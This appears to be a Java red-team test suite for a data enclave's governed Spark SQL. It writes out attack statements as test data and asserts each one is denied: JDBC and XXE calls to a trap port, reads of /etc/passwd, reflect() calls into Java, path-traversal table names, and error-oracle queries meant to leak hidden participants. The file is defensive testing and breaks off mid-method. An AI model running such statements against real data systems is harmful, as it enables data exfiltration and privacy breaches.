package jp.nmi.enclave.redteam;

import jp.nmi.egress.disclosure.RuleId;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import jp.nmi.egress.disclosure.Check;
import jp.nmi.egress.disclosure.OutputRecord;
import jp.nmi.egress.disclosure.Status;
import jp.nmi.enclave.audit.FileAuditLog;
import jp.nmi.enclave.demo.DemoWorld;
import jp.nmi.enclave.embedded.DemoEnclave;
import jp.nmi.enclave.error.AccessDeniedException;
import jp.nmi.enclave.io.Progress;
import jp.nmi.enclave.output.OutputExporter;
import jp.nmi.enclave.project.OptoutApplier;
import jp.nmi.enclave.project.PolicyPublisher;
import jp.nmi.enclave.project.ProjectState;
import jp.nmi.enclave.project.ProjectStore;
import jp.nmi.enclave.pseudonym.KeyStoreFile;
import jp.nmi.enclave.sql.EnclaveSession;
import jp.nmi.enclave.sql.StatementResult;
import jp.nmi.enclave.testing.DemoFacts;
import jp.nmi.enclave.testing.ProjectFiles;
import jp.nmi.enclave.testing.Trap;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The red team's attacks on governed SQL (issue 10), one parameterised case per class of attack
 * and its variants, run over the real stack (MiniDFSCluster, Spark, Ranger's engine) as each member
 * of a project. Every case is either denied with a reason or returns only what the member may see;
 * none errors on a row the member may not see.
 *
 * <p>Before the cases run, each member makes a workspace table, and then two participants of the
 * project opt out: their rows are still in the extract's files (until the next rewrite) and in the
 * members' derived tables, so the runtime filters that hide them are attacked for real.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
abstract class RedTeamSuite {
    static final List<String> TABLES = List.of("participants", "diagnoses", "genotypes", "lab_results");

    Path dir;

    DemoEnclave enclave;
    EnclaveSession session;
    DemoFacts facts;
    Trap trap;
    KeyStoreFile keys;
    String outbox;
    String projectDir;
    /** Project pseudonyms that opted out after the extract was written. */
    Set<String> optedOut;
    /** For each member: project pseudonyms in the files their session reads that they may not see. */
    final Map<String, Set<String>> hidden = new HashMap<>();
    /** For each member: rows of their workspace table made before the opt-out. */
    final Map<String, Long> workspaceRows = new HashMap<>();

    /** The project under attack. */
    abstract String project();

    /** Its members, attacking. */
    abstract List<String> members();

    /** The audience a member reads (an industry member of a non-commercial project), or null. */
    abstract String audienceOf(String user);

    /** The demo enclave the attacks run on: embedded here; a cluster's HDFS in the cluster suite. */
    DemoEnclave startEnclave(Path dir, DemoWorld.Parameters world) {
        return DemoEnclave.start(dir, world, Progress.NONE);
    }

    /** Connections as the audit log's writer, who may add anchors but never take them back. */
    javax.sql.DataSource auditWriter() {
        return enclave.database().auditAnchorDataSource();
    }

    /** Where the members' statements run: Spark in this JVM here; a standalone cluster's executors in the cluster suite. */
    EnclaveSession.Settings sessionSettings() {
        return new EnclaveSession.Settings("local[2]", 100_000, 2);
    }

    @BeforeAll
    void start() throws Exception {
        dir = Files.createTempDirectory("redteam-");
        enclave = startEnclave(dir, new DemoWorld.Parameters(400, 20, 17));
        session = enclave.openProject(project(), sessionSettings());
        keys = KeyStoreFile.openOrCreate(DemoEnclave.keyStore(dir));
        ProjectState state = new ProjectStore(enclave.storage()).require(project());
        facts = new DemoFacts(enclave.storage(), keys.key(state.spec().keyAlias()).orElseThrow());
        trap = new Trap();
        projectDir = "/enclave/projects/" + project();
        outbox = projectDir + "/outbox";

        for (String user : members()) {
            ok(user, "CREATE TABLE workspace.before_optout USING parquet AS SELECT participant_id, sex, array(participant_id) AS ids"
                    + " FROM participants");
            workspaceRows.put(user, count(user, "SELECT count(*) FROM workspace.before_optout"));
            // more columns than Spark compiles into one stage: its filters then run through another code path
            ok(user, "CREATE TABLE workspace.wide USING parquet AS SELECT participant_id, " + java.util.stream.IntStream.range(0, 120)
                    .mapToObj(i -> "length(sex) + " + i + " AS c" + i).collect(Collectors.joining(", ")) + " FROM participants");
        }
        // two participants every member sees opt out now: still in the files, hidden at once
        Set<String> seenByAll = null;
        for (String user : members()) {
            Set<String> files = ProjectFiles.participants(enclave.storage(), state, audienceOf(user), "participants");
            seenByAll = seenByAll == null ? new HashSet<>(files) : DemoFacts.intersect(seenByAll, files);
        }
        List<String> patients = ProjectFiles.patients(dir.resolve("demo-source"), keys.providerKey(), facts, seenByAll, 2);
        assertThat(patients).hasSize(2);
        Path csv = dir.resolve("optout.csv");
        Files.writeString(csv, "patient_id,received_on\n" + String.join(",2026-11-20\n", patients) + ",2026-11-20\n");
        new OptoutApplier(enclave.storage(), keys, PolicyPublisher.file(enclave.policyFile()), enclave.audit(),
                "ops", Clock.systemUTC()).apply(csv);
        optedOut = new HashSet<>();
        for (String p : patients) {
            optedOut.add(ProjectFiles.projectPseudonym(keys.providerKey(), facts, p));
        }
        for (String user : members()) {
            Set<String> inFiles = ProjectFiles.participants(enclave.storage(), state, audienceOf(user), "participants");
            Set<String> all = ProjectFiles.participants(enclave.storage(), state, "participants");
            Set<String> h = new HashSet<>(optedOut);
            // what the extract holds that this member's policies hide (industry members: no commercial use)
            h.addAll(DemoFacts.minus(all, inFiles));
            hidden.put(user, h);
            assertThat(inFiles).as("the opted-out participants are still in %s's files", user).containsAll(optedOut);
        }
    }

    @AfterAll
    void stop() throws Exception {
        if (trap != null) {
            trap.close();
        }
        if (session != null) {
            session.close();
        }
        if (enclave != null) {
            enclave.close();
        }
        if (dir != null) {
            try (Stream<Path> walk = Files.walk(dir)) {
                walk.sorted(java.util.Comparator.reverseOrder()).forEach(p -> p.toFile().delete());
            }
        }
    }

    // ---- helpers ----------------------------------------------------------------------------

    StatementResult ok(String user, String sql) {
        StatementResult r = session.execute(user, sql);
        assertThat(r.status()).as(user + ": " + sql + " -> " + r.message()).isEqualTo(StatementResult.Status.OK);
        return r;
    }

    long count(String user, String sql) {
        return ((Number) ok(user, sql).rows().get(0).get(0)).longValue();
    }

    String denied(String user, String sql) {
        StatementResult r = session.execute(user, sql);
        assertThat(r.status()).as(user + ": " + sql + " -> " + r.message()).isEqualTo(StatementResult.Status.DENIED);
        assertThat(r.message()).startsWith(AccessDeniedException.PREFIX);
        assertThat(r.rows()).isEmpty();
        return r.message();
    }

    /** SQL: whether {@code column} is one of the participants {@code user} may not see. */
    String hiddenPredicate(String user, String column) {
        return column + " IN (" + hidden.get(user).stream().sorted().map(p -> "'" + p + "'").collect(Collectors.joining(", ")) + ")";
    }

    Stream<String> users() {
        return members().stream();
    }

    static Arguments a(Object... values) {
        return Arguments.of(values);
    }

    // ---- 1. foreign data sources ------------------------------------------------------------

    Stream<Arguments> foreignDataSources() {
        String jdbc = "url 'jdbc:postgresql://127.0.0.1:" + trap.port() + "/postgres?user=postgres', query 'SELECT 1'";
        return users().flatMap(u -> Stream.of(
                a(u, "CREATE TABLE workspace.t USING jdbc OPTIONS (" + jdbc + ")", "USING jdbc is not allowed"),
                a(u, "CREATE TABLE workspace.t USING JDBC OPTIONS (" + jdbc + ")", "USING JDBC is not allowed"),
                a(u, "CREATE TABLE workspace.t USING org.apache.spark.sql.jdbc OPTIONS (" + jdbc + ")", "is not allowed"),
                a(u, "CREATE TABLE workspace.t USING org.apache.spark.sql.execution.datasources.jdbc.JdbcRelationProvider OPTIONS ("
                        + jdbc + ")", "is not allowed"),
                a(u, "CREATE TABLE workspace.t USING org.apache.spark.sql.execution.datasources.jdbc.DefaultSource OPTIONS (" + jdbc + ")",
                        "is not allowed"),
                a(u, "CREATE TEMPORARY VIEW v USING jdbc OPTIONS (" + jdbc + ")", "USING jdbc is not allowed"),
                a(u, "CREATE TEMPORARY VIEW v USING parquet OPTIONS (path '/enclave/datasets/participants')",
                        "CreateTempViewUsing is not allowed"),
                a(u, "CREATE TABLE workspace.t USING parquet OPTIONS (path '/enclave/datasets/participants')",
                        "LOCATION and OPTIONS (path) are not allowed"),
                a(u, "CREATE TABLE workspace.t USING csv OPTIONS (path 'file:///etc/passwd')", "LOCATION and OPTIONS (path) are not allowed"),
                a(u, "CREATE TABLE workspace.t USING text AS SELECT sex FROM participants", "USING text is not allowed"),
                a(u, "CREATE TABLE workspace.t USING noop AS SELECT sex FROM participants", "USING noop is not allowed"),
                a(u, "CREATE TABLE workspace.t USING orc AS SELECT sex FROM participants", "USING orc is not allowed"),
                a(u, "CREATE TABLE workspace.t USING csv AS SELECT sex FROM participants", "(csv is for [outbox_directory])"),
                // Spark's analyser instantiates the class a USING names, before any check rule: names are screened first
                a(u, "CREATE TABLE workspace.t USING com.example.Evil AS SELECT sex FROM participants",
                        "USING com.example.Evil is not allowed in the enclave: only csv, json, parquet may be named"),
                a(u, "CREATE TABLE workspace.t USING java.lang.Runtime AS SELECT sex FROM participants", "USING java.lang.Runtime is not"),
                a(u, "CREATE TABLE workspace.t USING java.io.FileOutputStream AS SELECT sex FROM participants",
                        "USING java.io.FileOutputStream is not"),
                a(u, "CREATE TABLE workspace.t USING parquet OPTIONS (compression 'org.example.EvilCodec') AS SELECT sex FROM participants",
                        "OPTIONS (compression) is not allowed"),
                a(u, "CREATE TABLE workspace.t USING parquet OPTIONS (parquet.encryption.kms.client.class 'org.example.K') AS SELECT"
                        + " sex FROM participants", "the option is not allowed for parquet"),
                a(u, "CREATE TABLE workspace.t USING parquet TBLPROPERTIES ('a' = 'b') AS SELECT sex FROM participants",
                        "TBLPROPERTIES are not allowed"),
                a(u, "INSERT OVERWRITE DIRECTORY '" + outbox + "/x' USING jdbc OPTIONS (" + jdbc + ") SELECT sex FROM participants",
                        "USING jdbc is not allowed"),
                a(u, "INSERT OVERWRITE DIRECTORY '" + outbox + "/x' USING csv OPTIONS (compression 'org.example.EvilCodec')"
                        + " SELECT sex FROM participants", "OPTIONS (compression) is not allowed"),
                a(u, "SELECT * FROM jdbc.`jdbc:postgresql://127.0.0.1:" + trap.port() + "/postgres`", "reading files by path is not allowed"),
                a(u, "CREATE TABLE workspace.t LIKE participants", "CreateTableLikeCommand is not allowed")));
    }

    @Order(1)
    @ParameterizedTest(name = "[{index}] {0}: {1}")
    @MethodSource("foreignDataSources")
    void foreignDataSourcesAreDeniedBeforeAnythingIsContacted(String user, String sql, String reason) {
        if (reason.startsWith("ERROR ")) {
            StatementResult r = session.execute(user, sql);
            assertThat(r.status()).isEqualTo(StatementResult.Status.ERROR);
            assertThat(r.message()).startsWith(reason.substring(6));
        } else {
            assertThat(denied(user, sql)).contains(reason);
        }
        assertThat(session.execute(user, "SELECT * FROM workspace.t").message()).as("no table was made").contains("TABLE_OR_VIEW_NOT_FOUND");
        assertThat(trap.connections()).as("connections to the other host").isZero();
    }

    /** What Spark's analyser would run or load before any check rule (the red team's second round). */
    Stream<Arguments> beforeTheCheck() {
        return users().flatMap(u -> Stream.of(
                a(u, "SELECT 1 FROM participants TIMESTAMP AS OF (SELECT concat('#', array_join(collect_list(participant_id), ','))"
                        + " FROM enclave_consent WHERE commercial_use_prohibited)", "RelationTimeTravel is not allowed"),
                a(u, "SELECT 1 FROM participants VERSION AS OF 1", "RelationTimeTravel is not allowed"),
                // the same, inside the definitions of a WITH clause, which are not the plan's children
                a(u, "WITH c AS (SELECT 1 FROM participants TIMESTAMP AS OF (SELECT max(participant_id) FROM enclave_consent))"
                        + " SELECT * FROM c", "RelationTimeTravel is not allowed"),
                a(u, "WITH c AS (SELECT * FROM participants WITH ('fs.hdfs.impl.disable.cache' = 'true')) SELECT count(*) FROM c",
                        "WITH (options) on a table"),
                a(u, "INSERT INTO workspace.before_optout SELECT * FROM participants TIMESTAMP AS OF (SELECT '2020-01-01')",
                        "RelationTimeTravel is not allowed"),
                a(u, "EXECUTE IMMEDIATE 'DROP TABLE workspace.before_optout'", "UnresolvedExecuteImmediate is not allowed"),
                // scripting is off in the enclave's sessions: Spark's parser refuses the script itself
                a(u, "BEGIN CREATE TABLE workspace.t (a INT) USING java.util.Timer; END", "ERROR [UNSUPPORTED_FEATURE.SQL_SCRIPTING]"),
                a(u, "BEGIN SELECT 1; END", "ERROR [UNSUPPORTED_FEATURE.SQL_SCRIPTING]"),
                a(u, "SELECT * FROM participants WITH ('fs.hdfs.impl.disable.cache' = 'true')", "WITH (options) on a table"),
                a(u, "SELECT from_xml('<a>1</a>', 'a INT', map('rowValidationXSDPath', '/etc/passwd'))", "from_xml is not allowed"),
                a(u, "SELECT schema_of_xml('<a>1</a>', map('rowValidationXSDPath', 'http://127.0.0.1:" + trap.port() + "/x.xsd'))",
                        "schema_of_xml is not allowed"),
                a(u, "SELECT xpath('<a><b>1</b></a>', 'a/b')", "xpath is not allowed"),
                a(u, "DROP TABLE IF EXISTS workspace.`../../../../../optout`", "table names are letters, digits and '_'"),
                a(u, "DROP TABLE IF EXISTS workspace.`../someone`", "table names are letters, digits and '_'"),
                a(u, "CREATE TABLE workspace.`../../outbox/x` USING parquet AS SELECT sex FROM participants",
                        "table names are letters, digits and '_'"),
                a(u, "CREATE TABLE workspace.nested USING parquet AS SELECT named_struct('id', participant_id) AS s FROM participants",
                        "workspace tables hold plain values and arrays of them"),
                a(u, "CREATE TABLE workspace.mapped USING parquet AS SELECT map('id', participant_id) AS m FROM participants",
                        "workspace tables hold plain values and arrays of them"),
                a(u, "CREATE TABLE workspace.parted USING parquet PARTITIONED BY (participant_id) AS SELECT sex, participant_id"
                        + " FROM participants", "workspace tables are not partitioned or bucketed"),
                a(u, "INSERT OVERWRITE DIRECTORY '" + outbox + "/zipped' USING csv OPTIONS (compression 'gzip') SELECT sex FROM"
                        + " participants", "OPTIONS (compression) is not allowed"),
                a(u, "USE DATABASE workspace_someone", "may not look into workspace_someone"),
                // the third round: names built at analysis, expressions folded at analysis, databases listed
                a(u, "CREATE TABLE IDENTIFIER('workspace_' || '" + u + "' || '.t') USING java.util.Timer AS SELECT 1 AS a",
                        "PlanWithUnresolvedIdentifier is not allowed"),
                a(u, "SELECT count(*) FROM IDENTIFIER('participa' || 'nts') WITH ('fs.hdfs.impl.disable.cache' = 'true')",
                        "PlanWithUnresolvedIdentifier is not allowed"),
                a(u, "SELECT * FROM VALUES (xpath_string('<!DOCTYPE a SYSTEM \"http://127.0.0.1:" + trap.port() + "/\"><a>1</a>', '/a'))"
                        + " AS t(x)", "the function xpath_string is not allowed in the enclave"),
                a(u, "SELECT sex FROM participants LIMIT length(xpath_string('<a>1</a>', 'a'))",
                        "the function xpath_string is not allowed in the enclave"),
                a(u, "SELECT * FROM VALUES (reflect('java.lang.System', 'exit', 1)) AS t(x)", "it calls an arbitrary Java method"),
                a(u, "SHOW DATABASES", "the databases are the project's and your workspace"),
                a(u, "USE SCHEMA " + "demo_x", "may not look into demo_x")));
    }

    @Order(2)
    @ParameterizedTest(name = "[{index}] {0}: {1}")
    @MethodSource("beforeTheCheck")
    void nothingRunsOrLoadsBeforeTheCheck(String user, String sql, String reason) throws Exception {
        if (reason.startsWith("ERROR ")) {
            StatementResult r = session.execute(user, sql);
            assertThat(r.status()).isEqualTo(StatementResult.Status.ERROR);
            assertThat(r.message()).startsWith(reason.substring(6));
        } else {
            assertThat(denied(user, sql)).contains(reason);
        }
        assertThat(trap.connections()).as("connections to the other host").isZero();
        assertThat(count(user, "SELECT count(*) FROM workspace.before_optout")).as("the workspace table is still there").isPositive();
        assertThat(enclave.storage().fs().exists(enclave.storage().layout().optoutRegistry())).as("the opt-out registry").isTrue();
    }

    @Order(4)
    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("users")
    void workspaceTablesKeepNoSamplePseudonyms(String user) {
        org.junit.jupiter.api.Assumptions.assumeTrue(project().equals("DEMO-1"), "DEMO-2 has no samples table");
        assertThat(denied(user, "CREATE TABLE workspace.s USING parquet AS SELECT sample_id AS s, sample_type FROM samples"))
                .contains("column s is samples.sample_id; workspace tables keep participants by participant_id");
        assertThat(denied(user, "INSERT OVERWRITE DIRECTORY '" + outbox + "/samples-" + user + "' USING csv SELECT sample_id FROM samples"))
                .contains("is samples.sample_id");
        ok(user, "CREATE TABLE workspace.s USING parquet AS SELECT participant_id, sample_type FROM samples");
        ok(user, "DROP TABLE workspace.s");
    }

    @Order(4)
    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("users")
    void analysisErrorsCarryNoPlanAndNoPolicy(String user) {
        for (String sql : List.of("SELECT explode(array(sex IN (SELECT 'F'))) FROM participants",
                "SELECT (SELECT max(p.participant_id) FROM participants p WHERE p.sex = q.sex) FROM participants q GROUP BY 1 HAVING x > 1",
                "SELECT no_such_column FROM participants p JOIN diagnoses d ON p.participant_id = d.participant_id")) {
            StatementResult r = session.execute(user, sql);
            assertThat(r.status()).as(sql).isIn(StatementResult.Status.ERROR, StatementResult.Status.DENIED);
            assertThat(r.message()).as(sql).doesNotContainPattern("[0-9a-f]{16}").doesNotContain("+-").doesNotContain("Filter ")
                    .doesNotContain("NOT IN").doesNotContain("InSet").doesNotContain("Relation");
        }
    }

    // ---- 2. foreign filesystems -------------------------------------------------------------

    Stream<Arguments> foreignFilesystems() {
        String local = "/tmp/redteam-" + UUID.randomUUID();
        URIs uris = new URIs();
        return users().flatMap(u -> Stream.of(
                a(u, "webhdfs://127.0.0.1:" + trap.port() + outbox + "/x", "only the enclave's own filesystem"),
                a(u, "hdfs://127.0.0.1:" + trap.port() + outbox + "/x", "only the enclave's own filesystem"),
                a(u, "hdfs://" + uris.otherHostName() + ":" + uris.port() + outbox + "/x", "only the enclave's own filesystem"),
                a(u, "HDFS://127.0.0.2:" + uris.port() + outbox + "/x", "only the enclave's own filesystem"),
                a(u, "file://" + local + "/x", "only the enclave's own filesystem"),
                a(u, "s3a://bucket" + outbox + "/x", "only the enclave's own filesystem"),
                a(u, "viewfs://cluster" + outbox + "/x", "only the enclave's own filesystem"),
                a(u, "//127.0.0.1:" + trap.port() + outbox + "/x", "only the enclave's own filesystem"),
                a(u, "outbox/x", "use the absolute path"),
                a(u, outbox + "/%2e%2e/workspace", "escaped or special characters"),
                a(u, "LOCAL " + local, "only the enclave's own filesystem"),
                a(u, "OPTIONS webhdfs://127.0.0.1:" + trap.port() + outbox + "/x", "only the enclave's own filesystem")));
    }

    /** The real HDFS's port, to name the same filesystem by another authority. */
    final class URIs {
        int port() {
            return enclave.storage().fileSystemUri().getPort();
        }

        /** Another name of the same machine than the one the enclave's filesystem URI uses. */
        String otherHostName() {
            return "localhost".equals(enclave.storage().fileSystemUri().getHost()) ? "127.0.0.1" : "localhost";
        }
    }

    @Order(2)
    @ParameterizedTest(name = "[{index}] {0}: {1}")
    @MethodSource("foreignFilesystems")
    void writesGoOnlyToTheEnclavesOwnFilesystem(String user, String target, String reason) {
        String sql;
        if (target.startsWith("LOCAL ")) {
            sql = "INSERT OVERWRITE LOCAL DIRECTORY '" + target.substring(6) + "' USING csv SELECT sex FROM participants";
        } else if (target.startsWith("OPTIONS ")) {
            sql = "INSERT OVERWRITE DIRECTORY USING csv OPTIONS (path '" + target.substring(8) + "') SELECT sex FROM participants";
        } else {
            sql = "INSERT OVERWRITE DIRECTORY '" + target + "' USING csv SELECT sex FROM participants";
        }
        assertThat(denied(user, sql)).contains(reason);
        assertThat(trap.connections()).as("connections to the other host").isZero();
        assertThat(Files.exists(Path.of("/enclave"))).as("nothing written to the local disk").isFalse();
    }

    // ---- 3. rows a member may not see are never evaluated by their expressions ---------------

    /** Shapes of an expression that raises an error on a hidden row: {T} the table, {P}/{Q} the hidden-row test. */
    static final List<String> ORACLES = List.of(
            "SELECT count(*) FROM {T} WHERE CASE WHEN {P:participant_id} THEN CAST(concat('LEAK|', participant_id) AS INT) ELSE 0 END = 1",
            "SELECT count(*) FROM {T} WHERE CASE WHEN {P:participant_id} THEN 1/0 ELSE 0 END = 0",
            "SELECT sum(CASE WHEN {P:participant_id} THEN 1/0 ELSE 0 END) FROM {T}",
            "SELECT count(*) FROM {T} WHERE (CASE WHEN {P:participant_id} THEN 1/0 ELSE 0 END) = 1"
                    + " OR (CASE WHEN {P:participant_id} THEN 1/0 ELSE 0 END) = 2",
            "SELECT participant_id FROM {T} WHERE (CASE WHEN {P:participant_id} THEN 1/0 ELSE 0 END) = 1"
                    + " OR (CASE WHEN {P:participant_id} THEN 1/0 ELSE 0 END) = 2",
            "SELECT count(*) FROM {T} WHERE exists(array(participant_id), x -> CASE WHEN {P:x} THEN 1/0 ELSE 0 END = 1)",
            "SELECT count(*) FROM {T} a JOIN {T} b ON a.participant_id = b.participant_id"
                    + " WHERE CASE WHEN {P:b.participant_id} THEN 1/0 ELSE 0 END = 0",
            "SELECT count(*) FROM {T} t JOIN participants p ON t.participant_id = p.participant_id"
                    + " AND CASE WHEN {P:t.participant_id} THEN 1/0 ELSE 0 END = 0",
            "SELECT CASE WHEN {P:participant_id} THEN CAST(concat('LEAK|', participant_id) AS INT) ELSE 0 END AS k, count(*)"
                    + " FROM {T} GROUP BY 1",
            "SELECT max(CASE WHEN {P:participant_id} THEN 1/0 ELSE 0 END) OVER (PARTITION BY participant_id) FROM {T}",
            "SELECT count(*) FROM participants WHERE participant_id IN"
                    + " (SELECT participant_id FROM {T} WHERE CASE WHEN {P:participant_id} THEN 1/0 ELSE 0 END = 0)",
            "SELECT count(*) FROM participants p WHERE EXISTS (SELECT 1 FROM {T} x WHERE x.participant_id = p.participant_id"
                    + " AND CASE WHEN {P:x.participant_id} THEN 1/0 ELSE 0 END = 0)",
            "SELECT count(*) FROM {T} WHERE element_at(array(1), CASE WHEN {P:participant_id} THEN 5 ELSE 1 END) = 1",
            "SELECT count(*) FROM {T} WHERE CAST(CASE WHEN {P:participant_id} THEN 'x' ELSE '1' END AS INT) = 1",
            "SELECT count(*) FROM (SELECT participant_id, concat(participant_id, '') AS c FROM {T})"
                    + " WHERE participant_id = c AND CASE WHEN {P:c} THEN 1/0 ELSE 0 END = 0");

    Stream<Arguments> errorOracles() {
        List<Arguments> out = new ArrayList<>();
        for (String user : members()) {
            for (String shape : ORACLES) {
                for (String table : TABLES) {
                    out.add(a(user, table, shape));
                }
                out.add(a(user, "workspace.before_optout", shape));
                out.add(a(user, "workspace.wide", shape));
            }
            // the inferred-filter shape Spark's optimizer puts in front of a filter: a = b AND f(b) gives f(a)
            out.add(a(user, "participants", "SELECT count(*) FROM {T} WHERE sex = participant_id"
                    + " AND CASE WHEN {P:sex} THEN 1/0 ELSE 0 END = 0"));
        }
        return out.stream();
    }

    @Order(3)
    @ParameterizedTest(name = "[{index}] {0} on {1}: {2}")
    @MethodSource("errorOracles")
    void anExpressionThatFailsOnAHiddenRowIsNeverEvaluatedOnOne(String user, String table, String shape) {
        String sql = shape.replace("{T}", table);
        java.util.regex.Matcher m = java.util.regex.Pattern.compile("\\{P:([a-z_.]+)\\}").matcher(sql);
        StringBuilder b = new StringBuilder();
        while (m.find()) {
            m.appendReplacement(b, java.util.regex.Matcher.quoteReplacement(hiddenPredicate(user, m.group(1))));
        }
        m.appendTail(b);
        StatementResult r = session.execute(user, b.toString());
        assertThat(r.status()).as(user + ": " + shape + " on " + table + " -> " + r.message()).isEqualTo(StatementResult.Status.OK);
    }

    @Order(4)
    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("users")
    void errorsCarryTheErrorClassAndTheAnalystsOwnTextNeverDataOrPlans(String user) {
        StatementResult cast = session.execute(user, "SELECT CAST(concat('LEAK|', participant_id) AS INT) FROM participants");
        assertThat(cast.status()).isEqualTo(StatementResult.Status.ERROR);
        assertThat(cast.message()).startsWith("[CAST_INVALID_INPUT] The value … of the type \"STRING\" cannot be cast to \"INT\"")
                .contains("(raised by: CAST(concat('LEAK|', participant_id) AS INT))")
                .doesNotContainPattern("[0-9a-f]{16}");
        StatementResult analysis = session.execute(user, "SELECT no_such_column FROM participants WHERE sex = 'F'");
        assertThat(analysis.status()).isEqualTo(StatementResult.Status.ERROR);
        assertThat(analysis.message()).startsWith("[UNRESOLVED_COLUMN.WITH_SUGGESTION]")
                .doesNotContain("+-").doesNotContain("Project [").doesNotContain("Filter ").doesNotContain("Relation");
        StatementResult divide = session.execute(user, "SELECT sum(1 / (length(sex) - 1)) FROM participants");
        assertThat(divide.status()).isEqualTo(StatementResult.Status.ERROR);
        assertThat(divide.message()).startsWith("[DIVIDE_BY_ZERO]").contains("(raised by: 1 / (length(sex) - 1))");
        assertThat(denied(user, "SELECT raise_error(participant_id) FROM participants")).contains("turns row values into error messages");
    }

    // ---- 4. workspaces cannot be taken over -------------------------------------------------

    @Order(5)
    @Test
    void aMemberCannotReadReplaceOrClaimAnotherMembersWorkspaceTable() {
        List<String> m = members();
        String owner = m.get(0);
        String other = m.size() > 1 ? m.get(1) : null;
        ok(owner, "CREATE TABLE workspace.owned USING parquet AS SELECT participant_id, sex FROM participants");
        long rows = count(owner, "SELECT count(*) FROM workspace.owned");
        String theirs = "workspace_" + owner + ".owned";
        List<String> attackers = other == null ? List.of() : List.of(other);
        for (String attacker : attackers) {
            assertThat(denied(attacker, "SELECT * FROM " + theirs))
                    .isEqualTo("Access denied: " + attacker + " may not read workspace table " + theirs + ": it belongs to " + owner);
            for (String sql : List.of(
                    "CREATE TABLE " + theirs + " USING parquet AS SELECT participant_id FROM participants",
                    "CREATE TABLE workspace_" + owner + ".second USING parquet AS SELECT participant_id FROM participants",
                    "CREATE TABLE spark_catalog.workspace_" + owner + ".second USING parquet AS SELECT participant_id FROM participants",
                    "CREATE TABLE `WORKSPACE_" + owner.toUpperCase(java.util.Locale.ROOT) + "`.second USING parquet AS SELECT sex FROM participants",
                    "INSERT INTO " + theirs + " SELECT participant_id, sex FROM participants",
                    "INSERT OVERWRITE TABLE " + theirs + " SELECT participant_id, sex FROM participants",
                    "DROP TABLE " + theirs)) {
                assertThat(denied(attacker, sql)).as(sql).contains("is in the workspace of " + owner);
            }
            for (String sql : List.of("DESCRIBE " + theirs, "SHOW COLUMNS IN " + theirs, "SHOW TABLES IN workspace_" + owner,
                    "USE workspace_" + owner)) {
                assertThat(denied(attacker, sql)).as(sql).contains(attacker + " may not look into workspace_" + owner);
            }
            assertThat(denied(attacker, "ALTER TABLE " + theirs + " RENAME TO workspace_" + attacker + ".mine"))
                    .contains("is not allowed in the enclave");
            // the attacker's own workspace.owned is their own table, not the owner's
            ok(attacker, "CREATE TABLE workspace.owned USING parquet AS SELECT sex FROM participants WHERE sex = 'F'");
            assertThat(session.execute(attacker, "SELECT participant_id FROM workspace.owned").message())
                    .contains("UNRESOLVED_COLUMN");
        }
        // a failed CREATE of an existing name changes nothing either
        assertThat(session.execute(owner, "CREATE TABLE workspace.owned USING parquet AS SELECT sex FROM participants").status())
                .isEqualTo(StatementResult.Status.ERROR);
        assertThat(count(owner, "SELECT count(*) FROM workspace.owned")).isEqualTo(rows);
        assertThat(ok(owner, "SHOW TABLES IN workspace").rows()).extracting(row -> row.get(1)).containsOnly("before_optout", "wide", "owned");
    }

    // ---- 5. roots, the outbox and the workspace cannot be overwritten ----------------------

    Stream<Arguments> roots() {
        return users().flatMap(u -> Stream.of(
                a(u, projectDir + "/workspace", "results go to the project's outbox"),
                a(u, projectDir + "/workspace/users/" + u, "results go to the project's outbox"),
                a(u, projectDir + "/workspace/users/" + u + "/before_optout", "results go to the project's outbox"),
                a(u, outbox, "results go to the project's outbox"),
                a(u, outbox + "/", "results go to the project's outbox"),
                a(u, outbox + "/.disclosure", "one new name directly in the outbox"),
                a(u, outbox + "/x/y", "one new name directly in the outbox"),
                a(u, projectDir + "/extract", "results go to the project's outbox"),
                a(u, projectDir, "results go to the project's outbox"),
                a(u, "/enclave", "results go to the project's outbox"),
                a(u, "/", "is not allowed"),
                a(u, "/enclave/projects/OTHER/outbox/x", "results go to the project's outbox")));
    }

    @Order(6)
    @ParameterizedTest(name = "[{index}] {0}: {1}")
    @MethodSource("roots")
    void noRootOrSharedDirectoryCanBeOverwritten(String user, String target, String reason) throws Exception {
        assertThat(denied(user, "INSERT OVERWRITE DIRECTORY '" + target + "' USING csv SELECT sex FROM participants")).contains(reason);
        assertThat(count(user, "SELECT count(*) FROM workspace.before_optout")).isPositive();
        assertThat(enclave.storage().fs().exists(new org.apache.hadoop.fs.Path(outbox))).isTrue();
    }

    @Order(7)
    @Test
    void anOutboxEntryIsOverwrittenOnlyByWhoeverWroteIt() throws Exception {
        String first = members().get(0);
        ok(first, "INSERT OVERWRITE DIRECTORY '" + outbox + "/by-sex' USING csv SELECT sex, count(*) FROM participants GROUP BY sex");
        ok(first, "INSERT OVERWRITE DIRECTORY '" + outbox + "/by-sex' USING csv SELECT sex, count(*) FROM participants GROUP BY sex");
        for (String other : members().subList(1, members().size())) {
            assertThat(denied(other, "INSERT OVERWRITE DIRECTORY '" + outbox + "/by-sex' USING csv SELECT 1"))
                    .isEqualTo("Access denied: writing to " + outbox + "/by-sex is not allowed: it was written by " + first
                            + "; only they may overwrite it");
        }
        try (var out = enclave.storage().fs().create(new org.apache.hadoop.fs.Path(outbox + "/exported.csv"))) {
            out.write("a,b\n".getBytes());
        }
        assertThat(denied(first, "INSERT OVERWRITE DIRECTORY '" + outbox + "/exported.csv' USING csv SELECT 1"))
                .contains("a file of that name is already in the outbox");
    }

    // ---- 7. the keyed pseudonym is the enclave's ---------------------------------------------

    Stream<Arguments> pseudonymCalls() {
        return users().flatMap(u -> Stream.of(
                a(u, "SELECT enclave_pseudonym('Tokyo')"),
